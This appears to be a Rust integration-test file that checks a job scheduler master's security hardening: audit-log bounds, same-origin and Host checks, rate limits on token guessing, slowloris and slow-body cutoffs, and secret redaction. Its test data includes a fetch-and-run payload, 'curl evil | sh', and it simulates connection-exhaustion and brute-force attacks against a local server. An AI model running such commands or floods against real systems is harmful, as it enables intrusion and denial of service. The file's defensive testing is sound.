//! The master's defences against a hostile or careless client, against a real master, etcd and
//! `mongod`: refusals are rate-limited and kept small in the audit log, unknown query
//! parameters and wrong methods are JSON errors, changes need the same origin, an open API
//! answers only to loopback names, failed authentications are limited per address, and
//! half-sent requests cannot hold the server's connections.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use etcron_tests::{wait_for, Cluster};
use reqwest::Method;
use serde_json::{json, Value};

const ADMIN: &str = "admin-token-for-tests-0123456789";

async fn send(c: &Cluster, token: &str, method: Method, path: &str, headers: &[(&str, &str)]) -> (u16, Value) {
    let mut req = reqwest::Client::new().request(method, format!("{}{path}", c.master.url)).bearer_auth(token);
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let resp = req.send().await.unwrap();
    let status = resp.status().as_u16();
    (status, resp.json().await.unwrap_or(Value::Null))
}

#[tokio::test(flavor = "multi_thread")]
async fn refusals_are_limited_bounded_and_say_what_was_attempted() -> anyhow::Result<()> {
    let out = std::process::Command::new(etcron_tests::bin("etcron-master")?)
        .args(["hash-token", "--name", "dash", "--role", "viewer"])
        .output()?;
    let text = String::from_utf8(out.stdout)?;
    let viewer = text.lines().nth(1).unwrap().trim_start_matches('#').trim().to_owned();
    let entry: String = text.lines().filter(|l| !l.starts_with('#')).collect::<Vec<_>>().join("\n");
    let dir = tempfile::tempdir()?;
    let config = dir.path().join("master.toml");
    std::fs::write(&config, entry)?;
    let config = config.display().to_string();
    let args = ["--config", &config, "--api-token", ADMIN, "--mutation-rate", "1", "--mutation-burst", "10"];
    let c = Cluster::start_with("hardening-audit", 0, false, &args).await?;

    // A viewer hammering a change it may not make: refused while its budget lasts, then
    // throttled like any caller's changes, and never more than the budget reaches the log.
    let long = format!("/api/jobs/{}", "n".repeat(60_000));
    let client = reqwest::Client::new();
    let (mut refused, mut throttled) = (0, 0);
    let flood_started = Instant::now();
    for _ in 0..40 {
        let resp = client
            .put(format!("{}{long}", c.master.url))
            .bearer_auth(&viewer)
            .json(&json!({"schedule": "@daily", "task": {"kind": "shell", "command": "curl evil | sh",
                "secret_env": {"K": "hunter2"}}}))
            .send()
            .await?;
        match resp.status().as_u16() {
            403 => refused += 1,
            429 => throttled += 1,
            other => panic!("unexpected {other}"),
        }
    }
    // The burst of 10, plus what the budget (1 a second) refilled while the flood lasted.
    let refilled = usize::try_from(flood_started.elapsed().as_secs()).unwrap() + 1;
    assert!(refused <= 10 + refilled && throttled >= 30 - refilled, "refused {refused}, throttled {throttled}");
    let entries = wait_for(Duration::from_secs(30), "the refusals in the audit log", || async {
        let v = c.call(Method::GET, "/api/audit?actor=dash", None).await.ok()?.1;
        let e = v["entries"].as_array()?.clone();
        (e.len() == refused).then_some(e)
    })
    .await?;
    for e in &entries {
        assert_eq!(e["status"], 403);
        assert!(e["path"].as_str().unwrap().len() <= 260, "path kept bounded");
        assert!(e["action"].as_str().unwrap().len() <= 270, "action kept bounded");
        let attempted = &e["detail"]["attempted"];
        assert_eq!(attempted["task"]["command"], "curl evil | sh", "the refusal says what was attempted: {e}");
        assert!(!e.to_string().contains("hunter2"), "secrets withheld");
    }

    // A typo in a query parameter is an error naming it, never a wider request.
    let (status, body) = send(&c, ADMIN, Method::POST, "/api/jobs/some-job/kill?exection=x", &[]).await;
    assert_eq!((status, body["error"]["field"].as_str()), (400, Some("exection")), "{body}");
    let (status, body) = send(&c, ADMIN, Method::GET, "/api/jobs?lmit=3", &[]).await;
    assert_eq!((status, body["error"]["field"].as_str()), (400, Some("lmit")), "{body}");
    // A wrong method is a JSON error too; API answers are neither sniffed nor cached.
    let (status, body) = send(&c, ADMIN, Method::PATCH, "/api/jobs", &[]).await;
    assert_eq!((status, body["error"]["code"].as_str()), (405, Some("method_not_allowed")), "{body}");
    let resp = client.get(format!("{}/api/jobs", c.master.url)).bearer_auth(ADMIN).send().await?;
    assert_eq!(resp.headers()["x-content-type-options"], "nosniff");
    assert_eq!(resp.headers()["cache-control"], "no-store");

    // Changes need the same origin, whatever the token: a page elsewhere is refused.
    let spec = json!({"schedule": "@daily", "task": {"kind": "shell", "command": "true"}});
    for (header, value, field) in
        [("Origin", "https://evil.example", "Origin"), ("Sec-Fetch-Site", "cross-site", "Sec-Fetch-Site")]
    {
        let resp = client
            .put(format!("{}/api/jobs/from-elsewhere", c.master.url))
            .bearer_auth(ADMIN)
            .header(header, value)
            .json(&spec)
            .send()
            .await?;
        let status = resp.status().as_u16();
        let body: Value = resp.json().await?;
        assert_eq!((status, body["error"]["field"].as_str()), (403, Some(field)), "{body}");
    }
    let own = c.master.url.clone();
    let resp = client
        .put(format!("{own}/api/jobs/from-here"))
        .bearer_auth(ADMIN)
        .header("Origin", own.as_str())
        .header("Sec-Fetch-Site", "same-origin")
        .json(&spec)
        .send()
        .await?;
    assert_eq!(resp.status().as_u16(), 201, "the console's own origin may change things");

    // What is stored is held to the spec limit, not only what was sent: a body just under the
    // limit grows past it with its defaults filled in.
    let env: serde_json::Map<String, Value> = (0..15).map(|i| (format!("V{i:02}"), json!("x".repeat(4000)))).collect();
    let mut spec = json!({"schedule": "@daily", "task": {"kind": "shell", "command": "", "env": env}});
    let room = 65_536 - 16 - spec.to_string().len();
    spec["task"]["command"] = json!(format!("echo {}", "x".repeat(room - 5)));
    let body = spec.to_string();
    assert!(body.len() <= 65_536, "{}", body.len());
    let resp = client
        .put(format!("{}/api/jobs/near-the-limit", c.master.url))
        .bearer_auth(ADMIN)
        .header("content-type", "application/json")
        .body(body)
        .send()
        .await?;
    let status = resp.status().as_u16();
    let answer: Value = resp.json().await?;
    assert_eq!((status, answer["error"]["code"].as_str()), (413, Some("too_large")), "{answer}");
    assert!(answer["error"]["message"].as_str().unwrap().contains("as stored"), "{answer}");

    // A password in a plain URL is shown redacted, kept when sent back as shown, and secrets
    // kept for a URL do not follow it to another destination.
    let http = json!({"schedule": "@yearly", "task": {"kind": "http", "url": "https://alice:s3cret@127.0.0.1:9/hook",
        "secret_headers": {"X-Api-Key": "k-123"}}});
    let (status, _) = c.call(Method::PUT, "/api/jobs/with-url-secrets", Some(http)).await?;
    assert_eq!(status, 201);
    let shown = c.get("/api/jobs/with-url-secrets").await?;
    assert_eq!(shown["spec"]["task"]["url"], "https://alice:redacted@127.0.0.1:9/hook");
    let (status, _) = c.call(Method::PUT, "/api/jobs/with-url-secrets", Some(shown["spec"].clone())).await?;
    assert_eq!(status, 200, "sent back as shown");
    let key = format!("{}/jobs/with-url-secrets", c.namespace);
    let stored = c.etcd.client().await?.get(key, None).await?;
    let stored = String::from_utf8_lossy(stored.kvs()[0].value()).into_owned();
    assert!(stored.contains("alice:s3cret@") && stored.contains("k-123"), "the secrets were kept: {stored}");
    let mut moved = shown["spec"].clone();
    moved["task"]["url"] = json!("https://127.0.0.2:9/collect");
    let (status, body) = c.call(Method::PUT, "/api/jobs/with-url-secrets", Some(moved)).await?;
    assert_eq!((status, body["error"]["field"].as_str()), (400, Some("task.secret_headers.X-Api-Key")), "{body}");
    let audit = c.get("/api/audit?job=with-url-secrets").await?;
    assert!(!audit.to_string().contains("s3cret") && audit.to_string().contains("alice:redacted@"), "{audit}");

    // Wrong tokens: each is logged with its address, and after a budget the address is told to
    // wait, whatever it sends, until the budget refills.
    let mut statuses = Vec::new();
    let guessing_started = Instant::now();
    for i in 0..30 {
        statuses.push(send(&c, &format!("wrong-token-{i:020}"), Method::GET, "/api/jobs", &[]).await.0);
    }
    // 20 at once, then one a second: past the budget, only refills get a 401.
    let refilled = usize::try_from(guessing_started.elapsed().as_secs()).unwrap() + 1;
    assert!(statuses[..20].iter().all(|s| *s == 401), "{statuses:?}");
    let late_401 = statuses[20..].iter().filter(|s| **s == 401).count();
    assert!(statuses[20..].iter().all(|s| *s == 401 || *s == 429), "{statuses:?}");
    assert!(late_401 <= refilled && late_401 < 10, "{statuses:?}");
    assert!(c.master.proc.log_text().matches("authentication failed").count() >= 20);
    wait_for(Duration::from_secs(10), "the address to be let in again", || async {
        (send(&c, ADMIN, Method::GET, "/api/jobs", &[]).await.0 == 200).then_some(())
    })
    .await?;
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn an_open_api_answers_only_to_loopback_names() -> anyhow::Result<()> {
    let c = Cluster::start("hardening-host", 0).await?;
    let client = reqwest::Client::new();
    let get = |host: &'static str| client.get(format!("{}/api/jobs", c.master.url)).header("Host", host).send();
    let resp = get("evil.example:8070").await?;
    let status = resp.status().as_u16();
    let body: Value = resp.json().await?;
    assert_eq!((status, body["error"]["field"].as_str()), (403, Some("Host")), "DNS rebinding: {body}");
    assert_eq!(get("localhost").await?.status().as_u16(), 200);
    Ok(())
}

/// Opens a connection from `from` that sends half a request and then nothing.
fn half_request(from: &str, to: SocketAddr) -> Option<TcpStream> {
    let socket = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).ok()?;
    socket.bind(&from.parse::<SocketAddr>().ok()?.into()).ok()?;
    socket.connect(&to.into()).ok()?;
    let mut stream: TcpStream = socket.into();
    stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ").ok()?;
    Some(stream)
}

#[tokio::test(flavor = "multi_thread")]
async fn half_sent_requests_cannot_hold_the_masters_connections() -> anyhow::Result<()> {
    let c = Cluster::start("hardening-slowloris", 0).await?;
    let addr: SocketAddr = c.master.url.trim_start_matches("http://").parse()?;
    // 300 half-sent requests from one address (127.0.0.2, another loopback address).
    let mut held: Vec<TcpStream> = (0..300).filter_map(|_| half_request("127.0.0.2:0", addr)).collect();
    assert_eq!(held.len(), 300);
    // Another client is still served at once.
    let health = reqwest::Client::builder().timeout(Duration::from_secs(5)).build()?;
    assert!(health.get(format!("{}/healthz", c.master.url)).send().await?.status().is_success());
    // The server closes every one of them: those over the per-address cap at once, the rest
    // when their headers are overdue.
    let started = Instant::now();
    let mut closed_at = Vec::new();
    for s in &held {
        s.set_nonblocking(true)?;
    }
    let mut open: Vec<&mut TcpStream> = held.iter_mut().collect();
    while !open.is_empty() && started.elapsed() < Duration::from_secs(30) {
        open.retain_mut(|s| {
            let mut buf = [0u8; 64];
            let closed = match s.read(&mut buf) {
                Ok(0) => true,
                // An answer (a 408) may come before the close.
                Ok(_) => false,
                Err(e) => e.kind() != std::io::ErrorKind::WouldBlock,
            };
            if closed {
                closed_at.push(started.elapsed());
            }
            !closed
        });
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(open.is_empty(), "{} half-sent requests still open after 30 s", open.len());
    let quickly = closed_at.iter().filter(|d| **d < Duration::from_secs(2)).count();
    assert!(quickly >= 300 - 128, "at most 128 connections are held for one address: {quickly} closed at once");
    assert!(closed_at.iter().all(|d| *d < Duration::from_secs(25)), "every half-sent request is cut off");
    // Each connection closed at once is counted.
    let metrics = etcron_tests::scrape(&format!("{}/metrics", c.master.url), None).await?;
    let refused = metrics.value("etcron_http_connections_refused_total", &[("reason", "per_peer")]);
    assert!(refused >= (300 - 128) as f64, "{refused} refusals counted");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn record_routes_fail_fast_when_mongodb_stops_answering() -> anyhow::Result<()> {
    let c = Cluster::start_with("hardening-mongo-stuck", 0, true, &[]).await?;
    // The master creates the record indexes after it starts; until then searches answer 503.
    let first = etcron_tests::wait_for(Duration::from_secs(30), "a record search answered", || async {
        match c.call(reqwest::Method::GET, "/api/executions", None).await.ok()? {
            (200, body) => Some(body),
            (503, body) => {
                assert_eq!(body["error"]["code"], "mongodb_unavailable", "{body}");
                None
            }
            (status, body) => panic!("{status} {body}"),
        }
    })
    .await?;
    assert_eq!(first["executions"], json!([]));
    // A frozen mongod (a stuck disk, a paused VM) accepts nothing and answers nothing.
    let mongod = c.mongo.proc.as_ref().unwrap();
    mongod.signal(etcron_tests::Sig::SIGSTOP)?;
    let client = reqwest::Client::builder().timeout(Duration::from_secs(8)).build()?;
    for path in ["/api/executions", "/api/executions/a%401795466922000%231", "/api/audit", "/api/notifications"] {
        let resp = client.get(format!("{}{path}", c.master.url)).send().await;
        let resp = resp.map_err(|e| anyhow::anyhow!("{path}: no answer within 8 s: {e}"))?;
        let status = resp.status().as_u16();
        let body: Value = resp.json().await?;
        assert_eq!((status, body["error"]["code"].as_str()), (503, Some("mongodb_unavailable")), "{path}: {body}");
    }
    mongod.signal(etcron_tests::Sig::SIGCONT)?;
    Ok(())
}

/// A request from `from` that sends `head`, then one byte of its body every 2 s (never the
/// whole body, never idle for long) until the server closes the connection: when it closed
/// (`None` if not within `limit`) and what it answered.
async fn dribble(from: &str, to: SocketAddr, head: String, limit: Duration) -> (Option<Duration>, String) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let socket = tokio::net::TcpSocket::new_v4().unwrap();
    socket.bind(format!("{from}:0").parse().unwrap()).unwrap();
    let mut stream = socket.connect(to).await.unwrap();
    stream.write_all(head.as_bytes()).await.unwrap();
    let started = Instant::now();
    let mut answer = Vec::new();
    while started.elapsed() < limit {
        tokio::select! {
            read = stream.read_buf(&mut answer) => if matches!(read, Ok(0) | Err(_)) {
                return (Some(started.elapsed()), String::from_utf8_lossy(&answer).into_owned());
            },
            () = tokio::time::sleep(Duration::from_secs(2)) => {
                if stream.write_all(b" ").await.is_err() {
                    return (Some(started.elapsed()), String::from_utf8_lossy(&answer).into_owned());
                }
            }
        }
    }
    (None, String::from_utf8_lossy(&answer).into_owned())
}

/// A client whose connections come from `from` (a loopback address).
fn client_from(from: &str) -> reqwest::Client {
    reqwest::Client::builder()
        .local_address(from.parse::<std::net::IpAddr>().unwrap())
        .timeout(Duration::from_secs(10))
        .build()
        .unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn slow_bodies_are_cut_off_and_wrong_tokens_never_lock_out_valid_ones() -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let config = dir.path().join("master.toml");
    std::fs::write(&config, "[auth]\ntrusted_proxies = [\"127.0.0.4/32\"]\n")?;
    let config = config.display().to_string();
    // A whole request within 15 s: its body within 5 s of its head.
    let args = ["--config", &config, "--api-token", ADMIN, "--request-timeout", "15s"];
    let c = Cluster::start_with("hardening-slow-body", 0, false, &args).await?;
    let addr: SocketAddr = c.master.url.trim_start_matches("http://").parse()?;

    // 4 addresses × 24 requests with a valid token whose bodies never finish, a byte every 2 s.
    let head = |token: Option<&str>, length: usize| {
        let auth = token.map(|t| format!("Authorization: Bearer {t}\r\n")).unwrap_or_default();
        format!(
            "PUT /api/jobs/slow HTTP/1.1\r\nHost: {addr}\r\n{auth}Content-Type: application/json\r\nContent-Length: {length}\r\n\r\n{{"
        )
    };
    let mut slow = Vec::new();
    for from in ["127.0.0.2", "127.0.0.3", "127.0.0.5", "127.0.0.6"] {
        for _ in 0..24 {
            slow.push(tokio::spawn(dribble(from, addr, head(Some(ADMIN), 4096), Duration::from_secs(20))));
        }
    }
    // Without a token, a large body is refused from its head alone: the answer comes before
    // any of the body is sent.
    for from in ["127.0.0.7", "127.0.0.8"] {
        let (closed, answer) = dribble(from, addr, head(None, 1024 * 1024), Duration::from_secs(5)).await;
        assert!(answer.starts_with("HTTP/1.1 401"), "{from}: {answer:?}");
        assert!(closed.is_some_and(|d| d < Duration::from_secs(3)), "{from}: answered at once, {closed:?}");
    }
    // While the slow requests are open, others are served.
    tokio::time::sleep(Duration::from_secs(1)).await;
    let health = client_from("127.0.0.9").get(format!("{}/healthz", c.master.url)).send().await?;
    assert!(health.status().is_success());
    let jobs = client_from("127.0.0.9").get(format!("{}/api/jobs", c.master.url)).bearer_auth(ADMIN).send().await?;
    assert_eq!(jobs.status().as_u16(), 200);
    // The deadline closes every slow request, with a 408.
    for task in slow {
        let (closed, answer) = task.await?;
        let closed = closed.unwrap_or_else(|| panic!("a slow body still open after 20 s: {answer:?}"));
        assert!(closed >= Duration::from_secs(4) && closed < Duration::from_secs(12), "closed after {closed:?}");
        assert!(answer.starts_with("HTTP/1.1 408"), "{answer:?}");
    }
    let metrics = etcron_tests::scrape(&format!("{}/metrics", c.master.url), Some(ADMIN)).await?;
    assert!(metrics.value("etcron_http_request_deadline_total", &[]) >= 96.0);

    // Wrong tokens from an address end in 429, but a valid token from it still passes.
    let wrong = |i: usize| format!("wrong-token-{i:020}");
    let guesser = client_from("127.0.0.3");
    let mut statuses = Vec::new();
    for i in 0..25 {
        let resp = guesser.get(format!("{}/api/jobs", c.master.url)).bearer_auth(wrong(i)).send().await?;
        statuses.push(resp.status().as_u16());
    }
    assert_eq!(statuses.last(), Some(&429), "{statuses:?}");
    let resp = guesser.get(format!("{}/api/jobs", c.master.url)).bearer_auth(ADMIN).send().await?;
    assert_eq!(resp.status().as_u16(), 200, "a valid token is never locked out");

    // Behind a trusted proxy (127.0.0.4) X-Forwarded-For tells its clients apart...
    let proxy = client_from("127.0.0.4");
    let through = |from: &'static str, token: String| {
        proxy.get(format!("{}/api/jobs", c.master.url)).bearer_auth(token).header("X-Forwarded-For", from).send()
    };
    let mut last = 0;
    for i in 0..25 {
        last = through("192.0.2.1", wrong(i)).await?.status().as_u16();
    }
    assert_eq!(last, 429, "one client behind the proxy guessed too often");
    assert_eq!(through("192.0.2.2", wrong(0)).await?.status().as_u16(), 401, "another client is not locked out");
    assert_eq!(through("192.0.2.1", ADMIN.to_owned()).await?.status().as_u16(), 200);
    // ...while anyone else's X-Forwarded-For is ignored: a new value per guess does not help.
    let other = client_from("127.0.0.5");
    let mut last = 0;
    for i in 0..25 {
        let resp = other
            .get(format!("{}/api/jobs", c.master.url))
            .bearer_auth(wrong(i))
            .header("X-Forwarded-For", format!("192.0.2.{}", 100 + i))
            .send()
            .await?;
        last = resp.status().as_u16();
    }
    assert_eq!(last, 429, "X-Forwarded-For from an untrusted sender is ignored");
    assert!(c.master.proc.log_text().contains("peer=192.0.2.1"), "the lockout names the client behind the proxy");
    Ok(())
}
